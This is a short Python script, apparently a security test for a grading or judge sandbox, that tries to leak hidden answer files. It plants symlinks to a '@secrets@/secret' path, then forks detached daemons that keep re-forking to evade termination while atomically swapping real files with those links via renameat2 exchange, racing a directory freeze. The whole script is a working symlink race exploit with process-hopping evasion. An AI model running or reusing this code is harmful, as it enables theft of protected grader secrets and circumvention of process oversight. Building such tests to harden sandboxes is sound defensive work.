"""Hopping daemons swap files with links into the answers while the directory is frozen."""
import ctypes
import os
import time

libc = ctypes.CDLL(None)
os.mkdir("d")
open("d/001.ans", "w").close()
open("f", "w").close()
os.symlink("@secrets@/secret", "d2")
os.symlink("@secrets@/secret/001.ans", "f2")
end = time.time() + 5
for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        while time.time() < end:
            libc.renameat2(-100, b"d", -100, b"d2", 2)
            libc.renameat2(-100, b"f", -100, b"f2", 2)
            if os.fork() > 0:
                os._exit(0)
        os._exit(0)
